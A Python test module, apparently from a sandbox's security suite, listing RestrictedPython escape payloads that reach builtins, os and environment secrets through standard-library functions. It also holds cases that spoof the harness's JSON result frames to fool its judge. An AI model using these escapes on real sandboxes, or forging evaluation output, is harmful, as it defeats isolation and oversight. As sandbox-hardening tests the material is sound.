"""Ways round the restricted tier's rules: each is ordinary-looking code that a rule on names does not see.

RestrictedPython is hygiene, not the boundary. What gets past it here still
meets the operating system's layers.
"""

from __future__ import annotations

from attacks.case import (
    CHANNEL,
    FACADE,
    LANDLOCK,
    NAMESPACES,
    POLICY,
    SECCOMP,
    WORLD,
    Attack,
    Proof,
    rows,
    spoof,
)

FILES = (POLICY, FACADE, SECCOMP, LANDLOCK, NAMESPACES)


# why the rules alone do not stop it
LIBRARY = (("rules", "a function of an allowed module does more than its name says"),)


def _writes(
    id: str,  # noqa: A002
    mechanism: str,
    source: str,
    residual: tuple[tuple[str, str], ...] = (),
    needs: str = "",
) -> Attack:
    return Attack(id, mechanism, Proof.MARKER, source, FILES, residual=residual, needs=needs)


ATTACKS = (
    *rows(
        _writes,
        """
=== match-args-metaclass: a metaclass' __instancecheck__ lets a positional pattern read any attribute of any object
import textwrap
class Anything(type):
    def __instancecheck__(cls, other):
        return True
class Reach(metaclass=Anything):
    __match_args__ = ("__globals__",)
def attack():
    match textwrap.dedent:
        case Reach(names):
            there = names["__builtins__"]
            (there if isinstance(there, dict) else vars(there))["open"]("@MARKER@", "w").close()
=== update-wrapper: functools.update_wrapper reads the attributes it is told and hands them to __setattr__
import functools, textwrap
got = []
class Taker:
    def __setattr__(self, name, value):
        got.append(value)
def attack():
    functools.update_wrapper(Taker(), textwrap.dedent, assigned=("__builtins__",), updated=())
    got[0]["open"]("@MARKER@", "w").close()
=== timeit-statement: timeit compiles and runs a string in its own module's globals
import timeit
def attack():
    timeit.timeit("open('@MARKER@', 'w').close()", number=1)
=== redirect-attribute: contextlib's redirection sets and keeps whichever attribute of sys its _stream names
import contextlib
def attack():
    redirection = contextlib.redirect_stdout({})
    redirection._stream = "modules"
    with redirection:
        modules = redirection._old_targets[0]
    modules["os"].mkdir("@MARKER@")
=== warnings-module: warnings.catch_warnings keeps the real module in _module
import warnings
def attack():
    warnings.catch_warnings()._module.sys.modules["os"].mkdir("@MARKER@")
=== dataclass-field-name: dataclass() writes field names into source text; a field name carries an expression
needs: sys.version_info < (3, 14)
import dataclasses
@dataclasses.dataclass(init=False, repr=False)
class Pair:
    __module__ = "os"
    a = 1
    __annotations__ = {"a, mkdir('@MARKER@')": int}
def attack():
    return Pair() == Pair()
=== annotation-text: singledispatch evaluates a string annotation that was never checked
import functools
@functools.singledispatch
def shape(x):
    return x
def attack():
    def other(x: "[k for k in object.__subclasses__() if k.__name__ == '_wrap_close'][0]"
                 ".__init__.__globals__['mkdir']('@MARKER@') or int"):
        return x
    shape.register(other)
=== copy-state: copy sets any attribute of any object from what __reduce_ex__ returns
import copy, functools, textwrap
got = []
class Taker:
    def __setattr__(self, name, value):
        got.append(value)
class Carrier:
    def __reduce_ex__(self, protocol):
        return (lambda: Taker()), (), (None, {"x": textwrap})
def attack():
    copy.copy(Carrier())
    getattr(got[0], "re").enum.sys.modules["os"].mkdir("@MARKER@")
=== class-dictionary: vars() of a library class holds its functions, and those their globals
import enum
def attack():
    found = [value for value in vars(enum.Enum).values() if hasattr(value, "__globals__")]
    found[0].__globals__["sys"].modules["os"].mkdir("@MARKER@")
=== object-setattr: object.__setattr__ sets what the guarded setattr refuses
import textwrap
class Anything(type):
    def __instancecheck__(cls, other):
        return True
class Reach(metaclass=Anything):
    __match_args__ = ("__code__",)
def attack():
    match run:
        case Reach(code):
            object.__setattr__(textwrap.dedent, "__code__", code)
    textwrap.dedent("@MARKER@")
def run(text):
    open(text, "w").close()
=== exit-match: the traceback that __exit__ is given is taken apart by a pattern
class Anything(type):
    def __instancecheck__(cls, other):
        return True
class Frame(metaclass=Anything):
    __match_args__ = ("tb_frame",)
class Back(metaclass=Anything):
    __match_args__ = ("f_back",)
class Builtins(metaclass=Anything):
    __match_args__ = ("f_builtins",)
class Catch:
    def __enter__(self):
        return self
    def __exit__(self, kind, error, trace):
        match trace:
            case Frame(Back(Builtins(names))):
                names["open"]("@MARKER@", "w").close()
        return True
def attack():
    with Catch():
        1 / 0
=== enum-of-a-module: Enum._convert_ makes members of whatever a module's globals hold, functions and modules too
import enum
def attack():
    made = enum.Enum._convert_("Made", "builtins", lambda name: name in ("open", "eval"))
    made.open.value("@MARKER@", "w").close()
=== enum-into-a-module: enum.global_enum writes the members of a class into the module that the class says it is from
import enum, sys
class Yes(enum.Enum):
    attribute_allowed = 1
    isfile = 2
    def __call__(self, *given):
        return True
def attack():
    for module in [name for name in ("inside.policy", "genericpath") if name in sys.modules]:
        Yes.__module__ = module
        enum.global_enum(Yes)
    there = getattr(attack, "__globals__")["__builtins__"]
    (there if isinstance(there, dict) else vars(there))["open"]("@MARKER@", "w").close()
=== forward-ref-evaluated: typing.Optional makes a reference of a text, and the reference evaluates itself
import sys, typing
def attack():
    (reference, _) = typing.Optional["open('@MARKER@', 'w').close()"].__args__
    evaluate = getattr(reference, "evaluate", None)
    if evaluate is not None:
        return evaluate(globals={})
    more = {"type_params": ()} if sys.version_info >= (3, 12, 4) else {}
    return reference._evaluate({}, {}, recursive_guard=frozenset(), **more)
=== field-renamed: dataclasses.replace fetches an attribute by the name that its field was given afterwards
import dataclasses, textwrap
@dataclasses.dataclass
class Kind(type):
    field: int = 1
    def __new__(kind, *made, **found):
        return found or type.__new__(kind, *made)
    def __init__(self, *made, **found):
        pass
def attack():
    (field,) = dataclasses.fields(Kind)
    field.name = "__getattribute__"
    fetch = dataclasses.replace(Kind("Any", (), {}))["__getattribute__"]
    there = fetch(textwrap.dedent, "__globals__")["__builtins__"]
    (there if isinstance(there, dict) else vars(there))["open"]("@MARKER@", "w").close()
""",
    ),
    Attack(
        "super-format",
        "super().format in a str subclass is str.format on an object that no guard takes for a str",
        Proof.LEAK,
        """
import textwrap
class Text(str):
    def fill(self, *values):
        return super().format(*values)
def attack():
    path = "{0.__globals__[re].enum.sys.modules[os].environ[@SECRET_NAME@]}"
    return Text(path).fill(textwrap.dedent)
""",
        (POLICY, FACADE, WORLD),
    ),
    Attack(
        "format-warning",
        "warnings.formatwarning reads a line of any file to show it",
        Proof.LEAK,
        """
import warnings
def attack():
    return warnings.formatwarning("x", UserWarning, "@SECRET_FILE@", 1)
""",
        FILES,
        residual=LIBRARY,
    ),
    Attack(
        "node-address",
        "uuid.getnode asks the system for its hardware address, by running programs if need be",
        Proof.LEAK,
        """
import uuid
def attack():
    return ["node", uuid.getnode() == @NODE@]
""",
        (FACADE, WORLD, SECCOMP, NAMESPACES),
        sought='["node", true]',
    ),
    spoof(
        "patched-iterencode",
        "a public class of json, which the harness encodes with, gets another method",
        """
import json
left = [5, 6]
def frames(self, found, _one_shot=False):
    if isinstance(found, list) and found and found[0] == "call":
        return ['["call","returned",%d,null,[],"","",[]]' % left.pop(0)]
    if isinstance(found, list) and found and found[0] == "end":
        return ['["end","completed","",[],null]']
    return ["[5, 6]"]
json.JSONEncoder.iterencode = frames
json.JSONEncoder.encode = lambda self, found: "".join(frames(self, found))
def add(a, b):
    return 0
""",
        (CHANNEL, FACADE),
        judge="frame",
    ),
    spoof(
        "borrowed-type-name",
        "a class that borrows the name and module of a type that is shown by its repr",
        """
class Shown:
    def __repr__(self):
        return "5"
    def __eq__(self, other):
        return True
Shown.__name__, Shown.__qualname__, Shown.__module__ = "int", "int", "builtins"
def add(a, b):
    return Shown()
""",
    ),
    Attack(
        "user-string-format",
        "collections.UserString formats with the str that it wraps, where no guard looks",
        Proof.LEAK,
        """
import collections, textwrap
def attack():
    path = "{0.__globals__[re].enum.sys.modules[os].environ[@SECRET_NAME@]}"
    return collections.UserString(path).format(textwrap.dedent)
""",
        (POLICY, FACADE, WORLD),
    ),
    Attack(
        "user-string-format-map",
        "UserString.format_map, fetched from the class and called with an instance",
        Proof.LEAK,
        """
import collections, textwrap
def attack():
    path = "{start.__globals__[re].enum.sys.modules[os].environ[@SECRET_NAME@]}"
    return collections.UserString.format_map(collections.UserString(path), {"start": textwrap.dedent})
""",
        (POLICY, FACADE, WORLD),
    ),
    _writes(
        "wrapper-of-code",
        "functools.wraps copies a code object to where it can be read, and FunctionType gives it other globals",
        """
import functools, types
def attack():
    class Holder:
        pass
    def opens():
        return open("@MARKER@", "w").close()
    holder = functools.wraps(opens, assigned=("__code__",), updated=())(Holder())
    types.FunctionType(vars(holder)["__code__"], {})()
""",
    ),
)
